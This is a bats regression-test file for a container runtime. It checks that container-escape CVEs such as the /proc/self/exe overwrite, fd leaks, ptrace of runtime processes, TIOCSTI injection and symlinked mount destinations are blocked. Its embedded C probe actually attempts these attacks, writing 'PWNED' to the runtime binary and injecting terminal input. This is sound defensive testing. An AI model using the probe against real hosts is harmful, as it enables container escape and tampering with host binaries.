#!/usr/bin/env bats
# CVE regressions: each test reproduces the attack against a real container
# and fails on a runtime that has the bug. The attacks run inside busybox
# containers through a small static probe built in setup_file.

load helpers

setup_file() {
  command -v gcc >/dev/null || return 0
  local d=$BATS_FILE_TMPDIR
  write_probe_source >"$d/probe.c"
  gcc -static -O1 -o "$d/probe" "$d/probe.c" 2>"$d/probe.log" || true
  write_ptyrun >"$d/ptyrun.py"
}

setup() {
  [ -x "$BATS_FILE_TMPDIR/probe" ] || skip "needs gcc with a static libc to build the probe"
  B=$BATS_TEST_TMPDIR/b
  # The attacks aim at the runtime binary: give them a copy to aim at, so a
  # runtime with the bug ruins only this test's copy, never the build.
  ARC=$BATS_TEST_TMPDIR/agentrun
  cp "$AGENTRUN" "$ARC"
  HASH=$(sha256sum <"$ARC")
}

teardown() {
  local id
  for id in $(ls "$ROOT" 2>/dev/null); do arc delete -f "$id" >/dev/null 2>&1 || true; done
  kill_tracked
}

arc() { "$ARC" --root "$ROOT" "$@"; }

probe_bundle() {
  make_bundle "$B" "$@"
  cp "$BATS_FILE_TMPDIR/probe" "$B/rootfs/probe"
}

wait_running() {
  local i
  for i in $(seq 100); do
    [ "$(arc state "$1" 2>/dev/null | jq -r .status)" = running ] && return 0
    sleep 0.05
  done
  return 1
}

@test "CVE-2019-5736: the created init's /proc/self/exe cannot be opened or written from inside" {
  probe_bundle sleep 60
  arc create -b "$B" c1
  # pid 1 of the container is still the runtime, waiting for start
  run arc exec c1 /probe exe 2
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"RESULT "* ]]
  [[ "$output" != *WROTE* ]]
  # the probe saw the runtime process (else it proved nothing)...
  [[ "$output" == *"DENIED 1 "* || "$output" == *"CAUGHT 1 "* ]]
  # ...and could not write through it
  [[ "$output" == *" wrote=0"* ]]
  [ "$(sha256sum <"$ARC")" = "$HASH" ]
}

@test "CVE-2019-5736: a #!/proc/self/exe program run by exec cannot reach the runtime binary" {
  # The original attack: the container's program names /proc/self/exe as its
  # interpreter, so the joining runtime runs itself inside the container,
  # where a watcher opens its exe and writes once it exits.
  probe_bundle /probe exe 6
  printf '#!/proc/self/exe\n' >"$B/rootfs/evil"
  chmod 755 "$B/rootfs/evil"
  arc run -d -b "$B" c2 >"$BATS_TEST_TMPDIR/watch.out" 2>&1
  wait_running c2
  local i
  for i in $(seq 15); do arc exec c2 /evil >/dev/null 2>&1 || true; done
  for i in $(seq 100); do grep -q RESULT "$BATS_TEST_TMPDIR/watch.out" && break; sleep 0.1; done
  cat "$BATS_TEST_TMPDIR/watch.out"
  grep -q 'RESULT .* wrote=0' "$BATS_TEST_TMPDIR/watch.out"
  refute grep -q WROTE "$BATS_TEST_TMPDIR/watch.out"
  [ "$(sha256sum <"$ARC")" = "$HASH" ]
}

@test "CVE-2024-21626: only stdio (and --preserve-fds) are open in the container, for run and exec" {
  probe_bundle /probe fds
  # open fds of our own the runtime must not pass on (bats holds 3 too)
  run arc run -b "$B" f1 7</dev/null 8>"$BATS_TEST_TMPDIR/junk" 9<"$B/config.json"
  [ "$status" -eq 0 ]
  [ "$output" = "FDS 0 1 2" ]
  run arc run --preserve-fds 2 -b "$B" f2 3</dev/null 4</dev/null 9<"$B/config.json"
  [ "$status" -eq 0 ]
  [ "$output" = "FDS 0 1 2 3 4" ]
  config_edit "$B" '.process.args = ["sleep", "60"]'
  arc run -d -b "$B" f3 </dev/null >/dev/null 2>&1
  wait_running f3
  run arc exec f3 /probe fds 7</dev/null 9<"$B/config.json"
  [ "$status" -eq 0 ]
  [ "$output" = "FDS 0 1 2" ]
}

@test "CVE-2024-21626: process.cwd /proc/self/fd/N never lands outside the rootfs" {
  probe_bundle /probe cwd
  local n
  for n in 3 4 5 6 7 8 9 10; do
    config_edit "$B" '.process.cwd = $c' --arg c "/proc/self/fd/$n"
    run arc run -b "$B" "w$n" 7</dev/null 8<"$BATS_TEST_TMPDIR" 9<"$B/config.json"
    echo "fd $n: status $status: $output"
    [[ "$output" != *"CWD OUTSIDE"* ]]
    # either refused, or a directory of the container
    if [ "$status" -eq 0 ]; then
      [[ "$output" == "CWD /"* ]]
      [[ "$output" != *"$BATS_TEST_TMPDIR"* ]]
    fi
  done
  # the same through exec --cwd
  config_edit "$B" '.process.args = ["sleep", "60"] | .process.cwd = "/"'
  arc run -d -b "$B" x1 </dev/null >/dev/null 2>&1
  wait_running x1
  for n in 3 4 5 7 8; do
    run arc exec --cwd "/proc/self/fd/$n" x1 /probe cwd 7</dev/null 8<"$BATS_TEST_TMPDIR"
    echo "exec fd $n: status $status: $output"
    [[ "$output" != *"CWD OUTSIDE"* ]]
    if [ "$status" -eq 0 ]; then [[ "$output" == "CWD /"* ]]; fi
  done
}

@test "CVE-2016-9962: the waiting init and a joining exec cannot be ptraced from inside" {
  probe_bundle sleep 60
  arc create -b "$B" p1
  run arc exec p1 /probe ptrace 1
  echo "$output"
  [ "$status" -eq 0 ]
  [[ "$output" == *"REFUSED 1 "* ]]
  [[ "$output" == *" attached=0"* ]]
  arc delete -f p1
  # a tracer inside, racing runtime processes that join by exec
  config_edit "$B" '.process.args = ["/probe", "ptrace", "5"]'
  arc run -d -b "$B" p2 >"$BATS_TEST_TMPDIR/trace.out" 2>&1
  wait_running p2
  local i
  for i in $(seq 15); do arc exec p2 /bin/true >/dev/null 2>&1 || true; done
  for i in $(seq 100); do grep -q RESULT "$BATS_TEST_TMPDIR/trace.out" && break; sleep 0.1; done
  cat "$BATS_TEST_TMPDIR/trace.out"
  grep -q 'RESULT .* attached=0' "$BATS_TEST_TMPDIR/trace.out"
}

@test "CVE-2017-5226: TIOCSTI on the caller's terminal is refused (new session)" {
  need_cmd python3
  probe_bundle /probe tiocsti
  # control: the probe outside any container does inject (else this test proves nothing)
  run python3 "$BATS_FILE_TMPDIR/ptyrun.py" "$BATS_FILE_TMPDIR/probe" tiocsti
  [[ "$output" == *"fd 0: TIOCSTI INJECTED"* ]] || skip "TIOCSTI is disabled on this kernel (dev.tty.legacy_tiocsti=0)"
  run python3 "$BATS_FILE_TMPDIR/ptyrun.py" "$ARC" --root "$ROOT" run -b "$B" t1
  echo "$output"
  [[ "$output" == *"fd 0: TIOCSTI refused"* ]]
  [[ "$output" != *"TIOCSTI INJECTED"* ]]
  [[ "$output" == *"QUEUED[]"* ]]
}

@test "CVE-2025-31133: a rootfs /dev/null that is a symlink or a file is never used to mask" {
  local kind
  for kind in symlink file; do
    rm -rf "$B"
    make_bundle "$B" sh -c 'cat /etc/secret; echo >/etc/secret pwn; cat /fake'
    echo FAKE-NULL >"$B/rootfs/fake"
    echo SECRET >"$B/rootfs/etc/secret"
    local d=$BATS_TEST_TMPDIR/dev-$kind
    mkdir -p "$d"
    if [ $kind = symlink ]; then ln -s /fake "$d/null"; else echo FAKE-NULL >"$d/null"; fi
    # /dev of the container is the attacker's directory, read-only so the
    # runtime cannot quietly replace the node; and the rootfs's own /dev too
    config_edit "$B" '.linux.maskedPaths += ["/etc/secret"]
      | .mounts |= map(select(.destination | startswith("/dev") | not))
      | .mounts += [{"destination": "/dev", "type": "bind", "source": $d, "options": ["rbind", "ro"]}]' --arg d "$d"
    run arc run -b "$B" "n-$kind"
    echo "$kind, /dev bound: status $status: $output"
    [[ "$output" != *SECRET* ]]
    [[ "$output" != *pwn* ]]
    [ "$(cat "$B/rootfs/fake")" = FAKE-NULL ]
    if [ "$status" -eq 0 ]; then [ "$output" = FAKE-NULL ]; fi
    config_edit "$B" '.mounts |= map(select(.destination != "/dev"))'
    rm -f "$B/rootfs/dev/null"
    if [ $kind = symlink ]; then ln -s /fake "$B/rootfs/dev/null"; else echo FAKE-NULL >"$B/rootfs/dev/null"; fi
    run arc run -b "$B" "r-$kind"
    echo "$kind, rootfs /dev: status $status: $output"
    [[ "$output" != *SECRET* ]]
    [[ "$output" != *pwn* ]]
    [ "$(cat "$B/rootfs/fake")" = FAKE-NULL ]
    if [ "$status" -eq 0 ]; then [ "$output" = FAKE-NULL ]; fi
  done
}

@test "mount destinations that are symlinks out of the rootfs never touch the host" {
  local h=$BATS_TEST_TMPDIR/host s=$BATS_TEST_TMPDIR/src
  mkdir -p "$h/dir" "$s"
  echo HOST >"$h/file"
  echo SRC >"$s/f"
  echo SRCFILE >"$BATS_TEST_TMPDIR/srcfile"
  make_bundle "$B" sh -c 'echo pwn >/esc-abs/x; echo pwn >/esc-rel/y; echo pwn >/esc-file; echo pwn >/esc-dot/z; true'
  ln -s "$h/dir" "$B/rootfs/esc-abs"
  ln -s "../../../../../../../../../../../..$h/dir" "$B/rootfs/esc-rel"
  ln -s "$h/file" "$B/rootfs/esc-file"
  mkdir -p "$B/rootfs/a"
  ln -s "/a/../../../../../../..$h/dir" "$B/rootfs/esc-dot"
  config_edit "$B" '.mounts += [
      {"destination": "/esc-abs", "type": "tmpfs", "source": "tmpfs"},
      {"destination": "/esc-rel", "type": "bind", "source": $s, "options": ["rbind", "rw"]},
      {"destination": "/esc-file", "type": "bind", "source": $f, "options": ["bind", "rw"]},
      {"destination": "/esc-dot/sub", "type": "tmpfs", "source": "tmpfs"}]
    | .linux.rootfsPropagation = "shared"' --arg s "$s" --arg f "$BATS_TEST_TMPDIR/srcfile"
  local before
  before=$(count_mounts)
  run arc run -b "$B" s1
  echo "status $status: $output"
  # nothing created, written or mounted on the host side
  [ -z "$(ls -A "$h/dir")" ]
  [ "$(cat "$h/file")" = HOST ]
  [ "$(stat -c %s "$h/file")" -eq 5 ]
  refute grep -q " $h" /proc/self/mountinfo
  [ "$(count_mounts)" -eq "$before" ]
}

write_probe_source() {
  cat <<'PROBE_EOF'
/* cve.bats probe: runs inside busybox containers (static). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int
list_fds (void)
{
  DIR *d = opendir ("/proc/self/fd");
  struct dirent *e;
  if (!d)
    return perror ("opendir /proc/self/fd"), 1;
  printf ("FDS");
  while ((e = readdir (d)))
    if (e->d_name[0] != '.' && atoi (e->d_name) != dirfd (d))
      printf (" %s", e->d_name);
  printf ("\n");
  return closedir (d), 0;
}

static int
show_cwd (void)
{
  char buf[4096];
  if (!getcwd (buf, sizeof buf) || buf[0] != '/')
    printf ("CWD OUTSIDE %s\n", strerror (errno));
  else
    printf ("CWD %s\n", buf);
  return 0;
}

/* Open the exe of every process that is not this probe or busybox: that can
 * only be the runtime (an init waiting for start, or a joining exec). */
static int
exe_attack (int seconds)
{
  time_t end = time (NULL) + seconds;
  int held[64], nheld = 0, caught = 0, wrote = 0, denied = 0;
  char self[4096] = "", path[64], target[4096];
  ssize_t n = readlink ("/proc/self/exe", self, sizeof self - 1);
  if (n > 0)
    self[n] = '\0';
  while (time (NULL) < end)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      while (d && (e = readdir (d)))
        {
          int pid = atoi (e->d_name);
          if (pid <= 0 || pid == getpid ())
            continue;
          snprintf (path, sizeof path, "/proc/%d/exe", pid);
          n = readlink (path, target, sizeof target - 1);
          if (n > 0)
            {
              target[n] = '\0';
              if (strcmp (target, self) == 0 || strstr (target, "busybox"))
                continue;
            }
          else
            snprintf (target, sizeof target, "(exe unreadable: %s)", strerror (errno));
          int w = open (path, O_WRONLY | O_CLOEXEC);
          if (w >= 0 && write (w, "PWNED", 5) == 5)
            wrote++, printf ("WROTE %d via %s (%s)\n", pid, path, target);
          if (w >= 0)
            close (w);
          int fd = open (path, O_RDONLY | O_CLOEXEC);
          if (fd >= 0 && nheld < 64)
            {
              held[nheld++] = fd;
              caught++;
              printf ("CAUGHT %d %s\n", pid, target);
            }
          else if (fd < 0 && denied++ < 5)
            printf ("DENIED %d %s: %s\n", pid, target, strerror (errno));
        }
      if (d)
        closedir (d);
      for (int i = 0; i < nheld; i++)
        {
          snprintf (path, sizeof path, "/proc/self/fd/%d", held[i]);
          int w = open (path, O_WRONLY | O_CLOEXEC);
          if (w >= 0 && write (w, "PWNED", 5) == 5)
            wrote++, printf ("WROTE via held fd %d\n", held[i]);
          if (w >= 0)
            close (w);
        }
      if (caught && wrote)
        break;
      usleep (500);
    }
  printf ("RESULT caught=%d denied=%d wrote=%d\n", caught, denied, wrote);
  return 0;
}

/* Try to ptrace every process that is not this probe or busybox. */
static int
ptrace_attack (int seconds)
{
  time_t end = time (NULL) + seconds;
  int seen = 0, attached = 0;
  char self[4096] = "", path[64], target[4096];
  ssize_t n = readlink ("/proc/self/exe", self, sizeof self - 1);
  if (n > 0)
    self[n] = '\0';
  while (time (NULL) < end && !attached)
    {
      DIR *d = opendir ("/proc");
      struct dirent *e;
      while (d && (e = readdir (d)))
        {
          int pid = atoi (e->d_name);
          if (pid <= 0 || pid == getpid ())
            continue;
          snprintf (path, sizeof path, "/proc/%d/exe", pid);
          n = readlink (path, target, sizeof target - 1);
          if (n > 0)
            {
              target[n] = '\0';
              if (strcmp (target, self) == 0 || strstr (target, "busybox"))
                continue;
            }
          else
            snprintf (target, sizeof target, "(exe unreadable: %s)", strerror (errno));
          seen++;
          if (ptrace (PTRACE_ATTACH, pid, 0, 0) == 0)
            {
              /* Stopped and ours now: what is it? A process that has
               * already exec'd the container's program is fair game; the
               * runtime (its memfd copy or binary) is not. */
              int ws = 0;
              pid_t w = waitpid (pid, &ws, __WALL);
              n = readlink (path, target, sizeof target - 1);
              int rl_errno = errno;
              target[n > 0 ? n : 0] = '\0';
              if (n > 0 && (strstr (target, "busybox") || strcmp (target, self) == 0))
                printf ("LATE %d %s (attached after its exec)\n", pid, target);
              else if ((w == pid && (WIFEXITED (ws) || WIFSIGNALED (ws))) || (n <= 0 && rl_errno == ENOENT))
                /* It ended before it could be looked at: a runtime process
                 * lingers while it sets up, so this was a container program
                 * that had just exited. */
                printf ("GONE %d (exited before it could be identified)\n", pid);
              else
                {
                  attached++;
                  printf ("ATTACHED %d %s\n", pid, n > 0 ? target : "(exe unreadable)");
                }
              ptrace (PTRACE_DETACH, pid, 0, 0);
            }
          else if (seen < 5)
            printf ("REFUSED %d %s: %s\n", pid, target, strerror (errno));
        }
      if (d)
        closedir (d);
      usleep (500);
    }
  printf ("RESULT seen=%d attached=%d\n", seen, attached);
  return 0;
}

static int
tiocsti (void)
{
  const char *s = "echo INJECTED\n";
  for (int fd = 0; fd <= 2; fd++)
    {
      if (!isatty (fd))
        {
          printf ("fd %d: not a tty\n", fd);
          continue;
        }
      int ok = 1;
      for (const char *p = s; *p; p++)
        if (ioctl (fd, TIOCSTI, p) < 0)
          {
            printf ("fd %d: TIOCSTI refused: %s\n", fd, strerror (errno));
            ok = 0;
            break;
          }
      if (ok)
        printf ("fd %d: TIOCSTI INJECTED\n", fd);
    }
  printf ("SID %d PID %d TTY %s\n", getsid (0), getpid (), ttyname (0) ? "yes" : "no");
  return 0;
}

int
main (int argc, char **argv)
{
  setvbuf (stdout, NULL, _IOLBF, 0);
  if (argc >= 2 && strcmp (argv[1], "fds") == 0)
    return list_fds ();
  if (argc >= 2 && strcmp (argv[1], "cwd") == 0)
    return show_cwd ();
  if (argc >= 3 && strcmp (argv[1], "exe") == 0)
    return exe_attack (atoi (argv[2]));
  if (argc >= 3 && strcmp (argv[1], "ptrace") == 0)
    return ptrace_attack (atoi (argv[2]));
  if (argc >= 2 && strcmp (argv[1], "tiocsti") == 0)
    return tiocsti ();
  fprintf (stderr, "usage: probe fds|cwd|exe SECS|ptrace SECS|tiocsti\n");
  return 2;
}
PROBE_EOF
}

# Run a command with a fresh pty as its controlling terminal and stdio; print
# what the terminal showed, then what was left queued as its input.
write_ptyrun() {
  cat <<'PTY_EOF'
import os, sys, pty, select, time, fcntl, termios
# Run argv with a fresh pty as its controlling terminal and stdio; print what
# the pty showed, then what was left in the terminal's input queue.
m, s = pty.openpty()
pid = os.fork()
if pid == 0:
    os.setsid()
    fcntl.ioctl(s, termios.TIOCSCTTY, 0)
    for fd in (0, 1, 2):
        os.dup2(s, fd)
    os.close(m); os.close(s)
    os.execvp(sys.argv[1], sys.argv[1:])
out = b''
deadline = time.time() + 20
done = False
while time.time() < deadline:
    r, _, _ = select.select([m], [], [], 0.2)
    if r:
        try:
            d = os.read(m, 4096)
        except OSError:
            d = b''
        out += d
    p, st = os.waitpid(pid, os.WNOHANG) if not done else (pid, 0)
    if p == pid and not done:
        done = True
        deadline = min(deadline, time.time() + 0.5)
# anything injected is in the slave's input queue: read it non-blocking
os.set_blocking(s, False)
tcattr = termios.tcgetattr(s)
tcattr[3] &= ~termios.ICANON
termios.tcsetattr(s, termios.TCSANOW, tcattr)
try:
    queued = os.read(s, 4096)
except OSError:
    queued = b''
sys.stdout.write(out.decode(errors='replace').replace('\r', ''))
sys.stdout.write('QUEUED[%s]\n' % queued.decode(errors='replace').replace('\n', '\\n'))
PTY_EOF
}
